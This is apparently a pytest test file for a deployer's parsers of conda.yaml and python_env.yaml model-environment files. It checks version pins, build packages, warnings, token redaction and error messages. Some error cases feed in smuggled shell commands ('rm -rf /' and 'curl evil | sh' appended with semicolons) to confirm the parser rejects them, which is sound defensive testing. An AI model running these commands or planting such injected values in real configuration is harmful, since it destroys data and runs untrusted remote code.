"""conda.yaml and python_env.yaml parsing."""

from __future__ import annotations

from pathlib import Path

import pytest

from deployer.environment.conda import CondaEnv, parse_conda_file
from deployer.environment.python_env import parse_python_env_file
from deployer.errors import EnvironmentSpecError
from tests.environment.conftest import MLFLOW_BUILD_DEPS, PIP_CAP, PYTHON_VERSION, SKLEARN_VERSION


def _file(tmp_path: Path, text: str, name: str = "conda.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def test_mlflow_written_conda_yaml(sklearn_model: Path) -> None:
    env = parse_conda_file(sklearn_model / "conda.yaml")
    assert env.python_version == PYTHON_VERSION
    assert env.channels == ("conda-forge",)
    assert env.conda_packages == ()
    assert env.build_packages == (PIP_CAP,)
    assert "mlflow==3.17.2" in env.pip and f"scikit-learn=={SKLEARN_VERSION}" in env.pip


def test_conda_only_packages(conda_packages_model: Path) -> None:
    env = parse_conda_file(conda_packages_model / "conda.yaml")
    assert env == CondaEnv(
        python_version=PYTHON_VERSION,  # the fixture pins the Python that saved it
        channels=("conda-forge", "nvidia"),
        conda_packages=("cudatoolkit=11.8", "conda-forge::libgomp"),
        build_packages=("pip<=24.0",),
        pip=("mlflow==3.17.2", "pandas==3.1.1"),
        warnings=(),
    )


def test_legacy_conda_file(legacy_data_env_model: Path) -> None:
    env = parse_conda_file(legacy_data_env_model / "mlflow_env.yml")
    assert env.python_version == "3.6.5"
    assert env.conda_packages == ("scikit-learn=0.19.1",)
    assert env.pip == ("mlflow",)
    assert env.channels == ("defaults",)


@pytest.mark.parametrize(
    ("dep", "python", "warns"),
    [
        ("python=3.10", "3.10", False),
        ("python==3.9.18", "3.9.18", False),
        ("python 3.12", "3.12", False),
        ("python=3.8.*", "3.8", False),
        ("python>=3.10", "3.10", True),
        ("python", None, True),
    ],
)
def test_python_spec_forms(tmp_path: Path, dep: str, python: str | None, warns: bool) -> None:
    env = parse_conda_file(_file(tmp_path, f"dependencies:\n  - {dep}\n"))
    assert env.python_version == python
    assert bool(env.warnings) is warns


def test_build_packages_become_pip_syntax(tmp_path: Path) -> None:
    env = parse_conda_file(_file(tmp_path, "dependencies:\n  - pip=24.0\n  - setuptools\n  - wheel>=0.40\n"))
    assert env.build_packages == ("pip==24.0", "setuptools", "wheel>=0.40")
    assert env.conda_packages == ()


def test_build_strings_and_ranges_allowed(tmp_path: Path) -> None:
    env = parse_conda_file(_file(tmp_path, "dependencies:\n  - numpy 1.11.1 py36_0\n  - libgcc>=7,<13\n"))
    assert env.conda_packages == ("numpy 1.11.1 py36_0", "libgcc>=7,<13")


def test_empty_file(tmp_path: Path) -> None:
    env = parse_conda_file(_file(tmp_path, ""))
    assert env.python_version is None and env.pip == () and env.conda_packages == ()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("dependencies: [python=3.11\n", "YAML does not parse"),
        ("- a\n", "must be a mapping"),
        ("channels: conda-forge\n", "'channels' must be a list"),
        ("channels: ['conda-forge; rm -rf /']\n", "is not a channel name"),
        ("dependencies: numpy\n", "'dependencies' must be a list"),
        ("dependencies:\n  - 'numpy; curl evil | sh'\n", "not a plain match spec"),
        ("dependencies:\n  - \"numpy[version='>=1.8']\"\n", "not a plain match spec"),
        ("dependencies:\n  - 3\n", "must be a string"),
        ("dependencies:\n  - {conda: [x]}\n", "only a {pip: [...]} mapping"),
        ("dependencies:\n  - {pip: numpy}\n", "'pip' must be a list"),
        ("dependencies:\n  - python<3.12\n", "must be pinned"),
        ("dependencies:\n  - pip=24 py_0\n", "cannot be expressed for pip"),
    ],
)
def test_conda_errors(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(EnvironmentSpecError) as exc:
        parse_conda_file(_file(tmp_path, text))
    assert message in exc.value.what
    assert str(tmp_path / "conda.yaml") in (exc.value.where or "")


def test_channel_token_redacted_in_errors(tmp_path: Path) -> None:
    text = "channels: ['https://conda.example.org/t/tok-123/private']\ndependencies: [3]\n"
    with pytest.raises(EnvironmentSpecError) as exc:
        parse_conda_file(_file(tmp_path, text))
    assert "tok-123" not in exc.value.format_message()


def test_variables_ignored_with_warning(tmp_path: Path) -> None:
    env = parse_conda_file(_file(tmp_path, "variables: {A: b}\ndependencies: [python=3.11]\n"))
    assert any("variables" in w for w in env.warnings)


# --- python_env.yaml ------------------------------------------------------------------------


def test_mlflow_written_python_env(sklearn_model: Path) -> None:
    env = parse_python_env_file(sklearn_model / "python_env.yaml")
    assert env.python_version == PYTHON_VERSION
    assert env.build_dependencies == MLFLOW_BUILD_DEPS
    assert env.dependencies == ("-r requirements.txt",)


def test_python_env_float_version(tmp_path: Path) -> None:
    with pytest.raises(EnvironmentSpecError) as exc:
        parse_python_env_file(_file(tmp_path, "python: 3.10\n", "python_env.yaml"))
    assert "3.1" in exc.value.what and "'3.10'" in (exc.value.fix or "")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("python: '3.11; rm -rf /'\n", "not a Python version"),
        ("dependencies: numpy\n", "'dependencies' must be a list"),
        ("build_dependencies: {pip: 1}\n", "'build_dependencies' must be a list"),
        ("[1, 2]\n", "must be a mapping"),
        ("python: [3\n", "YAML does not parse"),
    ],
)
def test_python_env_errors(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(EnvironmentSpecError) as exc:
        parse_python_env_file(_file(tmp_path, text, "python_env.yaml"))
    assert message in exc.value.what


def test_python_env_unknown_keys_warn(tmp_path: Path) -> None:
    env = parse_python_env_file(_file(tmp_path, "python: '3.11'\nextras: 1\n", "python_env.yaml"))
    assert env.python_version == "3.11"
    assert any("unknown key 'extras'" in w for w in env.warnings)
